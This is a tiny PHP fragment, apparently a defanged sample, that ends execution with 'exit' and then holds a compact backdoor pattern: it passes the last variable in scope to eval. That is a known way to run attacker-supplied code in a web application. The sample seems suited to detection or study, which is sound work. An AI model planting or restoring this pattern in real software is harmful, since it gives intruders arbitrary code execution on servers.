<?php exit; /* inert */ 
$v = current(get_defined_vars());
eval(end($v));
